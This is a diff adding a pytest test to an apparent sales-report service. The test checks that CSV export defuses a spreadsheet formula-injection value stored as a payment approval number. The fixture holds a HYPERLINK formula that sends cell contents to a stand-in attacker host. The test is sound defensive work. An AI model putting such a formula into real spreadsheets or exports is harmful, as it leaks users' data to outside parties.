@@ -140,3 +140,22 @@ def test_an_export_to_a_place_that_cannot_be_written_is_a_coded_error(
     with pytest.raises(UserFacingError) as refused:
         report.export_csv(tmp_path / "no" / "such" / "dir.csv", report.last_30_days())
     assert refused.value.code == "E862"
+
+
+def test_a_hostile_approval_number_comes_out_inert_and_numbers_stay_numbers(
+    db: sqlite3.Connection, report: SalesReportService, tmp_path: Path
+) -> None:
+    # Stored before the sync client checked approval numbers (or typed for a refund).
+    sale = record_sale(
+        db, datetime(2026, 11, 25, 3, 0, tzinfo=UTC), "cheongju_pay", [("p1", "사과", 1_000, 2)]
+    )
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"OK")'
+    answer(db, sale, "accepted", approval_no=hostile, cashback=0)
+    void(db, datetime(2026, 11, 25, 3, 5, tzinfo=UTC), sale)
+    path = tmp_path / "sales.csv"
+    report.export_csv(path, report.check_range(date(2026, 11, 25), date(2026, 11, 25)))
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))[1:]
+    assert {row[9] for row in rows} == {"'" + hostile}
+    (voided,) = [r for r in rows if r[10] == "결제취소"]
+    assert voided[6] == voided[11] == "-2000"  # a number a spreadsheet sums, not text
